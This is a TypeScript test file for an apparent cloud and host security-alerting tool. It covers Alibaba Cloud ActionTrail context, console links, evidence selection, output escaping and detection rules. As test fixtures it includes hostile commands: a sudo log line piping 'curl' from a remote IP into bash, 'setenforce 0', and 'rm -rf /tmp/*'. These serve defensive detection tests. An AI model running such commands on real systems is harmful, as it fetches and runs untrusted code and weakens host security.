import { readdirSync, readFileSync } from 'node:fs';
import * as path from 'node:path';
import { Alerter } from '../../shared/alerts/alerter';
import { contextOf } from '../../shared/alerts/context';
import { alertLinks, consoleUrl } from '../../shared/alerts/links';
import { keyFacts, readerEvidence } from '../../shared/alerts/reading';
import { markdownText, defang, htmlText, plainText } from '../../shared/delivery/escape';
import { readerTime } from '../../shared/delivery/render/time';
import { Detector } from '../../shared/engine/detector';
import { Evidence } from '../../shared/engine/evidence';
import { runRuleTests } from '../../shared/engine/rule-tests';
import { normalizeJsonRecord } from '../../shared/events/json-record';
import { normalizeSyslogLine } from '../../shared/events/syslog';
import { compileRule } from '../../shared/rules/load';
import { MemoryStateStore } from '../../shared/state/memory';
import { zoneOf } from '../../shared/util/zone';
import { failedLogin, ruleDef } from '../helpers';
import { renderMarkdown } from '../markdown';

const evidenceOf = (record: Record<string, unknown>): Evidence => {
  const [e] = normalizeJsonRecord(record, undefined, 'auto', { year: 2026 });
  return { id: e.id, time: new Date(e.time).toISOString(), source: e.source, fields: e.fields };
};
const hostEvidence = (line: string): Evidence => {
  const [e] = normalizeSyslogLine(line, { year: 2026 });
  return { id: e.id, time: new Date(e.time).toISOString(), source: e.source, fields: e.fields };
};

/** An EventBridge CloudEvent as Alibaba Cloud documents it for ActionTrail (a system call on ECS resources), in ids of our own. */
const eventBridgeDeleteDisk = {
  id: 'a1b2c3d4-0000-4000-8000-000000000001',
  source: 'acs.ecs',
  specversion: '1.0',
  type: 'ecs:ActionTrail:AliyunServiceEvent',
  time: '2026-11-22T21:52:00Z',
  aliyunaccountid: '1234567890123456',
  aliyunregionid: 'cn-hangzhou',
  data: {
    eventId: '7d41f2aa-1c3e-4b55-9a0e-2f6c8b1e****',
    eventVersion: 1,
    sourceIpAddress: 'ecs.aliyuncs.com',
    userAgent: 'ecs.aliyuncs.com',
    eventRW: 'Write',
    eventType: 'ApiCall',
    referencedResources: { 'ACS::ECS::Instance': ['i-bp1examplerelease'], 'ACS::ECS::Disk': ['d-bp1exampledisk01'] },
    userIdentity: { type: 'system', userName: 'ecs.aliyuncs.com' },
    serviceName: 'Ecs',
    requestId: '5C2A9B64-1F0D-5E3A-8B7C-0D1E2F3A4B5C',
    eventTime: '2026-11-22T21:52:00Z',
    isGlobal: false,
    acsRegion: 'cn-hangzhou',
    eventName: 'DeleteDisk',
  },
};

const authorizeSg = {
  eventId: 'EV-CTX-1', eventVersion: '1', eventType: 'ApiCall', eventName: 'AuthorizeSecurityGroup', serviceName: 'Ecs', eventTime: '2026-11-20T03:05:00Z', acsRegion: 'cn-hangzhou',
  sourceIpAddress: '198.18.0.10', userAgent: 'Terraform/1.9.5', errorCode: '', errorMessage: '',
  userIdentity: { type: 'ram-user', principalId: '2231', accountId: '1234567890123456', userName: 'bob', accessKeyId: 'LTAI5tEXAMPLEBOB' },
  requestParameters: { SecurityGroupId: 'sg-bp1fg655nh68xyz9', 'Permissions.1.PortRange': '22/22', 'Permissions.1.SourceCidrIp': '0.0.0.0/0' },
};

describe('alert context: who, where, what', () => {
  test('an EventBridge record names its resources in referencedResources, as published', () => {
    const c = contextOf(evidenceOf(eventBridgeDeleteDisk));
    expect(c).toMatchObject({ region: 'cn-hangzhou', principal: { type: 'system', name: 'ecs.aliyuncs.com' }, action: 'DeleteDisk', service: 'Ecs' });
    expect(c.resources).toEqual([
      { type: 'ACS::ECS::Instance', id: 'i-bp1examplerelease' },
      { type: 'ACS::ECS::Disk', id: 'd-bp1exampledisk01' },
    ]);
  });

  test('a record without them is read from its parameters: the security group, the account, the caller', () => {
    const c = contextOf(evidenceOf(authorizeSg));
    expect(c).toEqual({
      account: '1234567890123456', region: 'cn-hangzhou', principal: { type: 'ram-user', name: 'bob', id: '2231', accessKeyId: 'LTAI5tEXAMPLEBOB' },
      sourceIp: '198.18.0.10', userAgent: 'Terraform/1.9.5', action: 'AuthorizeSecurityGroup', service: 'Ecs', resources: [{ type: 'ACS::ECS::SecurityGroup', id: 'sg-bp1fg655nh68xyz9' }],
    });
  });

  test('older records name one by resourceType and resourceName; a RAM user signing in names the user', () => {
    expect(contextOf(evidenceOf({ ...authorizeSg, eventId: 'EV-CTX-2', resourceType: 'ACS::KMS::Key', resourceName: 'key-a;key-b', requestParameters: {} })).resources).toEqual([
      { type: 'ACS::KMS::Key', id: 'key-a' },
      { type: 'ACS::KMS::Key', id: 'key-b' },
    ]);
    const signin = { eventId: 'EV-CTX-3', eventType: 'ConsoleSignin', eventName: 'ConsoleSignin', serviceName: 'AasSub', eventTime: '2026-11-20T03:05:00Z', acsRegion: 'cn-hangzhou', sourceIpAddress: '203.0.113.61', userIdentity: { type: 'ram-user', accountId: '1234567890123456', userName: 'carol' } };
    expect(contextOf(evidenceOf(signin)).resources).toEqual([{ type: 'ACS::RAM::User', id: 'carol' }]);
  });

  test('a sudo line: the user, whom they became, the command, the host', () => {
    const c = contextOf(hostEvidence('2026-11-20T09:15:02Z web-01 sudo[9001]:   eve : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/sbin/setenforce 0'));
    expect(c).toEqual({ host: 'web-01', principal: { name: 'eve' }, targetUser: 'root', process: 'sudo', command: '/usr/sbin/setenforce 0', resources: [] });
  });
});

describe('alert links', () => {
  test('console pages of the resources, for either site', () => {
    expect(consoleUrl({ type: 'ACS::ECS::SecurityGroup', id: 'sg-1' }, 'cn-hangzhou', 'aliyun.com')).toBe('https://ecs.console.aliyun.com/securityGroupDetail/region/cn-hangzhou/groupId/sg-1/detail/intranetIngress');
    expect(consoleUrl({ type: 'ACS::ECS::Instance', id: 'i-1' }, 'ap-southeast-1', 'alibabacloud.com')).toBe('https://ecs.console.alibabacloud.com/server/i-1/detail?regionId=ap-southeast-1');
    expect(consoleUrl({ type: 'ACS::OSS::Bucket', id: 'logs' }, 'cn-beijing', 'aliyun.com')).toBe('https://oss.console.aliyun.com/bucket/oss-cn-beijing/logs/overview');
    expect(consoleUrl({ type: 'ACS::KMS::Key', id: 'key-1' }, 'cn-beijing', 'aliyun.com')).toBe('https://kms.console.aliyun.com/cn-beijing/key/detail/key-1');
    expect(consoleUrl({ type: 'ACS::RAM::User', id: 'a b/c' }, undefined, 'aliyun.com')).toBe('https://ram.console.aliyun.com/users/a%20b%2Fc');
    // Regional pages need the region; unknown types have none.
    expect(consoleUrl({ type: 'ACS::ECS::Instance', id: 'i-1' }, undefined, 'aliyun.com')).toBeUndefined();
    expect(consoleUrl({ type: 'ACS::ECS::Disk', id: 'd-1' }, 'cn-hangzhou', 'aliyun.com')).toBeUndefined();
  });

  test('an ActionTrail event is found by id in the trail logstore; host logs by host and address over the detection', () => {
    const e = evidenceOf(authorizeSg);
    const links = alertLinks(contextOf(e), [e], e, ['https://attack.mitre.org/techniques/T1562/007/'], { site: 'aliyun.com', trailLogstore: { project: 'audit', logstore: 'trail' } });
    expect(links.map((l) => [l.kind, l.type])).toEqual([['console', 'ACS::ECS::SecurityGroup'], ['evidence', 'sls-query'], ['reference', undefined]]);
    const q = new URL(links[1].url);
    expect(q.origin + q.pathname).toBe('https://sls.console.aliyun.com/lognext/project/audit/logsearch/trail');
    expect(Buffer.from(q.searchParams.get('queryString')!, 'base64').toString()).toBe('event.eventId: "EV-CTX-1"');
    expect(Number(q.searchParams.get('startTime'))).toBeLessThan(Date.parse('2026-11-20T03:05:00Z') / 1000);
    // Without a trail logstore: the region's ActionTrail event search.
    expect(alertLinks(contextOf(e), [e], e, [], { site: 'aliyun.com' })[1]).toEqual({ kind: 'evidence', type: 'actiontrail-events', id: 'EV-CTX-1', url: 'https://actiontrail.console.aliyun.com/cn-hangzhou/event-list' });

    const lines = [failedLogin('2026-11-20T10:00:00Z', '198.51.100.23'), failedLogin('2026-11-20T10:03:00Z', '198.51.100.23')].map(hostEvidence);
    const host = alertLinks(contextOf(lines[1]), lines, lines[1], [], { site: 'aliyun.com', hostLogstore: { project: 'audit', logstore: 'host-auth' } })[0];
    const hq = new URL(host.url);
    expect(Buffer.from(hq.searchParams.get('queryString')!, 'base64').toString()).toBe('"web-01" and "198.51.100.23"');
    expect([Number(hq.searchParams.get('startTime')), Number(hq.searchParams.get('endTime'))]).toEqual([Date.parse('2026-11-20T09:59:00Z') / 1000, Date.parse('2026-11-20T10:04:00Z') / 1000]);
    // A host line read from a file, with no host logstore set: no link to make.
    expect(alertLinks(contextOf(lines[1]), lines, lines[1], [], { site: 'aliyun.com' })).toEqual([]);
  });
});

describe('evidence for the reader', () => {
  test('a threshold keeps its first hit and the hit that completed it', async () => {
    const rule = compileRule(ruleDef({ kind: 'threshold', groupBy: ['source.ip'], threshold: { count: 8, window: '5m' }, message: 'last {{user.name}}' }), 'r.json');
    const lines = Array.from({ length: 8 }, (_, i) => failedLogin(`2026-11-20T10:00:0${i}Z`, '198.51.100.7', `user${i}`));
    const events = lines.flatMap((l) => normalizeSyslogLine(l, { year: 2026 }));
    const [alert] = await new Alerter(new Detector([rule], new MemoryStateStore())).process(events);
    expect(alert.evidence.map((e) => e.fields.user)).toEqual(['user0', 'user7'].map((name) => ({ name })));
    // The message and the context are the completing event's.
    expect(alert.message).toBe('last user7');
    expect(readerEvidence(alert.kind, alert.evidence, alert.time).map((r) => [r.role, (r.evidence.fields.user as { name: string }).name])).toEqual([
      ['first', 'user0'],
      ['decisive', 'user7'],
    ]);
  });

  test('a sequence shows its first event, its last earlier step and the completing event', () => {
    const e = (i: number, t: string): Evidence => ({ id: `e${i}`, time: t, source: 'sshd', fields: {} });
    const evidence = [e(1, '2026-11-20T10:00:01.000Z'), e(2, '2026-11-20T10:00:02.000Z'), e(3, '2026-11-20T10:00:09.000Z'), e(4, '2026-11-20T10:00:10.000Z')];
    expect(readerEvidence('sequence', evidence, '2026-11-20T10:00:10.000Z').map((r) => [r.role, r.evidence.id])).toEqual([
      ['first', 'e1'],
      ['last-step', 'e3'],
      ['decisive', 'e4'],
    ]);
    expect(readerEvidence('match', [evidence[3]], '2026-11-20T10:00:10.000Z').map((r) => r.role)).toEqual(['decisive']);
  });

  test('key facts: the call and its parameters as readable text, not an SLS cursor', () => {
    const facts = keyFacts(evidenceOf(authorizeSg));
    expect(facts).toContainEqual(['eventName', 'AuthorizeSecurityGroup']);
    expect(facts).toContainEqual(['requestParameters.Permissions', '[{PortRange: 22/22, SourceCidrIp: 0.0.0.0/0}]']);
    const fromSls = hostEvidence(failedLogin('2026-11-20T10:00:00Z', '198.51.100.23'));
    fromSls.fields.log = { file: { path: 'sls://audit/host-auth/0/MTY5', line: 3 } };
    expect(keyFacts(fromSls).map(([k]) => k)).not.toContain('log.file.path');
  });
});

describe('escaping per channel', () => {
  /** What a reader sees of markdown: the rendered text, tags stripped and entities decoded. */
  const shown = (md: string) => renderMarkdown(md).replace(/<[^>]+>/g, '').replace(/&quot;/g, '"').replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&').trim();

  test.each(['web-01|pack_secmon_authorized_keys|0', 'carol@1234567890123456.onaliyun.com', 'LTAI5tEXAMPLEBOB', 'sg-bp1fg655nh68xyz9', 'rm -rf /tmp/*', '~/.ssh/authorized_keys', 'a_b __init__ _x_', 'user.name'])('%s renders as itself, and links nothing', (id) => {
    expect(shown(markdownText(id))).toBe(id);
    expect(renderMarkdown(markdownText(id))).not.toMatch(/<a |<em>|<strong>|<code>|<s>/);
  });

  test('identifiers need no escape where CommonMark opens nothing: they read the same in the raw text', () => {
    expect(markdownText('web-01|pack_secmon_authorized_keys|0')).toBe('web-01|pack_secmon_authorized_keys|0');
  });

  test('a mention of a mobile number mentions nobody; URLs are defanged', () => {
    expect(markdownText('hi @13800000000')).toBe('hi ＠13800000000');
    expect(defang('see http://evil.example/x and https://a.b.c:8443/p and ftp://x.y/z and www.example.com')).toBe('see hxxp://evil[.]example/x and hxxps://a[.]b[.]c:8443/p and ftp[:]//x[.]y/z and www[.]example.com');
  });

  test('bidi and zero-width characters are shown, control characters and line breaks removed', () => {
    expect(plainText('ev\u202Eil\u200B\r\nBcc: x')).toBe('ev‹U+202E›il‹U+200B› Bcc: x');
    expect(htmlText('<b>http://x.y</b>')).toBe('&lt;b&gt;hxxp://x[.]y&lt;/b&gt;');
  });
});

describe('times for the reader', () => {
  test('on the wall clock of the zone, with the UTC instant beside', () => {
    expect(readerTime('2026-11-20T03:05:00.000Z', zoneOf('Asia/Shanghai'))).toBe('2026-11-20 11:05:00 UTC+08:00 · 2026-11-20T03:05:00Z');
    expect(readerTime('2026-11-20T03:05:00.000Z', zoneOf('UTC'))).toBe('2026-11-20 03:05:00 UTC');
    expect(readerTime('2026-11-20T03:05:00.000Z', zoneOf('+05:30'))).toBe('2026-11-20 08:35:00 UTC+05:30 · 2026-11-20T03:05:00Z');
    // Daylight saving time applies at the instant: New York is UTC-4 in July, UTC-5 in November.
    expect(readerTime('2026-07-01T12:00:00.000Z', zoneOf('America/New_York'))).toBe('2026-07-01 08:00:00 UTC-04:00 · 2026-07-01T12:00:00Z');
    expect(readerTime('2026-11-20T12:00:00.000Z', zoneOf('America/New_York'))).toBe('2026-11-20 07:00:00 UTC-05:00 · 2026-11-20T12:00:00Z');
  });
});

describe('rules in two languages, references by what matched', () => {
  const dir = path.join(__dirname, '..', '..', 'rules');
  const files = readdirSync(dir).filter((f) => f.endsWith('.json') && !f.endsWith('.schema.json'));

  test('every bundled rule has a zh-CN title and message, with the placeholders of its English message', () => {
    const placeholders = (s: string | undefined) => [...(s ?? '').matchAll(/\{\{[^}]*\}\}/g)].map((m) => m[0]).sort();
    for (const f of files) {
      const rule = JSON.parse(readFileSync(path.join(dir, f), 'utf8'));
      const zh = rule.translations?.['zh-CN'];
      expect([f, typeof zh?.title]).toEqual([f, 'string']);
      expect([f, placeholders(zh.message)]).toEqual([f, placeholders(rule.message)]);
      expect([f, /[\u4e00-\u9fff]/.test(zh.title)]).toEqual([f, true]);
    }
  });

  test("a rule test's expected references fail the test when another reference comes first", async () => {
    const def = JSON.parse(readFileSync(path.join(dir, 'sudo.dangerous-command.json'), 'utf8'));
    def.tests = [{ name: 'curl to a shell', events: ['2026-11-20T09:15:02Z web-01 sudo[9001]:   eve : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh -c curl -fsSL http://203.0.113.5/x.sh | bash'], expect: { alerts: 1, references: ['https://attack.mitre.org/techniques/T1485/'] } }];
    const [result] = await runRuleTests(compileRule(def, 'dangerous.json'));
    expect(result.ok).toBe(false);
    expect(result.failure).toContain('expected references ["https://attack.mitre.org/techniques/T1485/"] first, got ["https://attack.mitre.org/techniques/T1105/"]');
  });
});
